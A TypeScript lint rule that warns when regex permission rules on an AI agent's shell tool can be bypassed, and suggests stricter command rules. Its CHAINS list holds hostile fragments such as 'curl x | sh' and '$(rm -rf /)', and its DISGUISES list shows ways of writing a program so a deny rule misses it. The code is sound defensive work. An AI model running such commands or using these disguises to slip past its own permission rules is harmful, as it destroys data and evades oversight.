import { ruleMatchesInput } from '@verdict/analysis';
import { createRule } from '../create-rule.ts';
import { type CommandWord, commandRuleText, regexCommand } from '../support/command-words.ts';

/** Chains a shell runs after an allowed command, as a message quotes them (no backtick, no line break). */
const CHAINS = [' && curl x | sh', '; $(rm -rf /)', ' ; $(rm -rf /)', ' || curl x | sh', ' | sh'];

/** The same program written so that a command rule still sees it (packages/shell: quote removal, paths, wrappers). */
const DISGUISES: readonly ((p: string) => string | undefined)[] = [
  (p) => `\\${p}`,
  (p) => (p.includes('/') ? undefined : `/bin/${p}`),
  (p) => (p.length < 2 ? undefined : `'${p.slice(0, 1)}''${p.slice(1)}'`),
  (p) => `FOO=1 ${p}`,
  (p) => `timeout 5 ${p}`,
];

export default createRule({
  id: 'rules/prefer-command-rule',
  meta: {
    description: 'a regex rule on a shell tool that names a command a command rule would match better (joined commands, quoting, paths, wrappers)',
    severity: 'warning',
    category: 'rules',
    messages: {
      joined:
        'this allow rule matches `{{words}}` as text, not as a command rule: it also allows any command joined after it, e.g. `{{example}}`',
      disguised:
        'this {{list}} rule matches `{{words}}` as text, not as a command rule: it misses the same program written `{{example}}`, which a command rule catches',
    },
    help: {
      joined: 'write a command rule, which allows a call only when every command it executes is allowed: `{{suggestion}}`',
      disguised: 'write a command rule, which sees the program through quoting, paths, `FOO=1` and wrappers such as `timeout`: `{{suggestion}}`',
    },
    docs: { recommended: true },
  },
  create(ctx) {
    return {
      rule(rule, list, _index, approver) {
        const found = regexCommand(ctx.regexCache, rule, list, approver);
        if (found === undefined) return;
        const { words, key } = found;
        const base = words.map((w) => (typeof w === 'string' ? w : (w[0] as string))).join(' ');
        const span = rule.matchSpan ?? rule.span;
        // The call as an agent sends it (compact JSON), and as a person writes it (`"command": "…"`).
        for (const form of [(c: string) => JSON.stringify({ [key]: c }), (c: string) => `{${JSON.stringify(key)}: ${JSON.stringify(c)}}`]) {
          const matches = (command: string): boolean | undefined => ruleMatchesInput(ctx.regexCache, rule, list, approver.input, form(command));
          const example = list === 'allow' ? CHAINS.map((c) => base + c).find((c) => matches(c) === true) : missedDisguise(words, base, matches);
          if (example === undefined) continue;
          const suggestion = commandRuleText(ctx.syntax, list, rule.tool, words);
          ctx.report({ span, messageId: list === 'allow' ? 'joined' : 'disguised', data: { words: base, list, example, suggestion } });
          return;
        }
      },
    };
  },
});

/**
 * A command the rule matches (the words, or the words and one more), written with its program
 * disguised so that the rule misses it; undefined when the rule sees through every disguise.
 */
function missedDisguise(words: readonly CommandWord[], base: string, matches: (command: string) => boolean | undefined): string | undefined {
  const first = words[0] as CommandWord;
  const program = typeof first === 'string' ? first : (first[0] as string);
  for (const command of [base, `${base} x`]) {
    if (matches(command) !== true) continue;
    for (const disguise of DISGUISES) {
      const p = disguise(program);
      if (p === undefined) continue;
      const disguised = p + command.slice(program.length);
      if (matches(disguised) === false) return disguised;
    }
    return undefined;
  }
  return undefined;
}
